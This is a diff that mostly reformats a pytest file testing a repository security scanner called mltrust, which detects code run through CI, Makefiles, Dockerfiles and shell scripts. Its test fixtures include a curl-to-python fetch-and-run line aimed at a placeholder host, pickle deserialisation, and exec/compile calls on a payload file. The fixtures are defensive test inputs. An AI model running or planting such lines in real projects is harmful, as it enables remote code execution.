@@ -12,8 +12,7 @@ from pathlib import Path
 
 import pytest
 
-from mltrust.evidence import CollectContext, collect_evidence
-from mltrust.evidence import _rules
+from mltrust.evidence import CollectContext, _rules, collect_evidence
 from mltrust.policy import ControlStatus, evaluate, load_profile
 
 pytest.importorskip("bandit", reason="bandit (the policy extra) is not installed")
@@ -41,7 +40,9 @@ def _dangerous(doc: dict) -> set[tuple[str, str]]:  # type: ignore[type-arg]
 
 
 def _lines(doc: dict, path: str, rule: str) -> set[int]:  # type: ignore[type-arg]
-    return {f["line"] for f in doc["code"]["dangerous"] if (f["path"], f["rule_id"]) == (path, rule)}
+    return {
+        f["line"] for f in doc["code"]["dangerous"] if (f["path"], f["rule_id"]) == (path, rule)
+    }
 
 
 # -- 1. files run with Python whatever their name ----------------------------------------------
@@ -58,11 +59,17 @@ LAUNCHERS = {
         ".github/workflows/ci.yaml": "jobs:\n  t:\n    steps:\n      - run: |\n"
         "          echo start\n          FOO=1 python -B tools/build && echo done\n"
     },
-    "gitlab": {".gitlab-ci.yml": "test:\n  script:\n    - pip install .\n    - python tools/build\n"},
-    "shell-script": {"scripts/run.sh": "#!/bin/sh\nset -e\nexec python3 tools/build \"$@\"\n"},
+    "gitlab": {
+        ".gitlab-ci.yml": "test:\n  script:\n    - pip install .\n    - python tools/build\n"
+    },
+    "shell-script": {"scripts/run.sh": '#!/bin/sh\nset -e\nexec python3 tools/build "$@"\n'},
     "shell-shebang": {"scripts/run": "#!/usr/bin/env bash\nif true; then python tools/build; fi\n"},
-    "dockerfile-exec": {"Dockerfile": 'FROM python:3.12\nCOPY . /app\nCMD ["python", "/app/tools/build"]\n'},
-    "dockerfile-run": {"Dockerfile": "FROM python:3.12\nRUN pip install x && \\\n    python tools/build\n"},
+    "dockerfile-exec": {
+        "Dockerfile": 'FROM python:3.12\nCOPY . /app\nCMD ["python", "/app/tools/build"]\n'
+    },
+    "dockerfile-run": {
+        "Dockerfile": "FROM python:3.12\nRUN pip install x && \\\n    python tools/build\n"
+    },
     "package-json": {"package.json": '{"scripts": {"prepare": "python3 tools/build"}}\n'},
     "pre-commit": {
         ".pre-commit-config.yaml": "repos:\n- repo: local\n  hooks:\n  - id: b\n    name: b\n"
@@ -114,15 +121,22 @@ def test_attack_file_run_with_python_that_is_not_python_fails_closed(tmp_path: P
     "files",
     [
         {"Makefile": "test:\n\tpython -m pytest -q\n\tpython --version\n\techo python is fun\n"},
-        {".github/workflows/ci.yml": "jobs:\n  t:\n    steps:\n"
-         "      - uses: actions/setup-python@v5\n        with:\n          python-version: '3.12'\n"
-         "      - run: python -m pip install -e .\n"},
-        {".pre-commit-config.yaml": "repos:\n- repo: local\n  hooks:\n  - id: x\n"
-         "    language: python\n    entry: ruff\n"},
+        {
+            ".github/workflows/ci.yml": "jobs:\n  t:\n    steps:\n"
+            "      - uses: actions/setup-python@v5\n        with:\n"
+            "          python-version: '3.12'\n"
+            "      - run: python -m pip install -e .\n"
+        },
+        {
+            ".pre-commit-config.yaml": "repos:\n- repo: local\n  hooks:\n  - id: x\n"
+            "    language: python\n    entry: ruff\n"
+        },
         {"tox.ini": "[testenv]\ncommands = python -c 'import sys; print(sys.version)'\n"},
     ],
 )
-def test_ordinary_python_invocations_are_not_findings(tmp_path: Path, files: dict[str, str]) -> None:
+def test_ordinary_python_invocations_are_not_findings(
+    tmp_path: Path, files: dict[str, str]
+) -> None:
     _write(tmp_path, {**files, "ok.py": "x = 1\n"})
     doc, controls = _check(tmp_path)
     assert doc["code"]["not_analysed"] == []
@@ -131,16 +145,20 @@ def test_ordinary_python_invocations_are_not_findings(tmp_path: Path, files: dic
 
 # -- 2. inline Python --------------------------------------------------------------------------
 INLINE = {
-    "makefile-c": ("Makefile", "b:\n\tpython -c 'import pickle; pickle.loads(open(\"m\", \"rb\").read())'\n", 2),
+    "makefile-c": (
+        "Makefile",
+        "b:\n\tpython -c 'import pickle; pickle.loads(open(\"m\").read())'\n",
+        2,
+    ),
     "workflow-c": (
         ".github/workflows/ci.yml",
-        "jobs:\n  t:\n    steps:\n      - run: >-\n          python3 -c \"import pickle;\n"
+        'jobs:\n  t:\n    steps:\n      - run: >-\n          python3 -c "import pickle;\n'
         "          pickle.loads(b'')\"\n",
         5,
     ),
     "shell-heredoc": (
         "scripts/go.sh",
-        "#!/bin/bash\necho hi\npython3 - <<'EOF'\nimport pickle\npickle.loads(b'')\nEOF\necho bye\n",
+        "#!/bin/bash\necho hi\npython3 - <<'EOF'\nimport pickle\npickle.loads(b'')\nEOF\n",
         5,
     ),
     "workflow-heredoc": (
@@ -160,7 +178,11 @@ INLINE = {
         "FROM python:3.12\nRUN python3 <<EOF\nimport pickle\npickle.loads(b'')\nEOF\n",
         4,
     ),
-    "tox-c": ("tox.ini", "[testenv]\ncommands =\n    python -c \"import pickle; pickle.loads(b'')\"\n", 3),
+    "tox-c": (
+        "tox.ini",
+        "[testenv]\ncommands =\n    python -c \"import pickle; pickle.loads(b'')\"\n",
+        3,
+    ),
 }
 
 
@@ -177,7 +199,7 @@ def test_attack_inline_python_is_analysed_at_its_host_line(tmp_path: Path, case:
     "files",
     [
         {"scripts/go.sh": "python3 - <<EOF\nimport $MOD\nEOF\n"},
-        {"Makefile": "b:\n\tpython -c \"import $(MOD)\"\n"},
+        {"Makefile": 'b:\n\tpython -c "import $(MOD)"\n'},
         {"scripts/go.sh": "curl -s https://x.example/i | python3\n"},
     ],
 )
@@ -219,7 +241,7 @@ RUN_FILE = {
     "exec-open-read": 'exec(open("payload.txt").read())\n',
     "exec-path-read-text": 'from pathlib import Path\nexec(Path("payload.txt").read_text())\n',
     "compile-open-read": 'code = compile(open("payload.txt").read(), "p", "exec")\n',
-    "source-file-loader": 'import importlib.machinery as m\nm.SourceFileLoader("p", "payload.txt")\n',
+    "source-file-loader": 'import importlib.machinery as m\nm.SourceFileLoader("p", "payload.txt")',
     "spec-from-file-location": (
         'import importlib.util\nimportlib.util.spec_from_file_location("p", "payload.txt")\n'
     ),
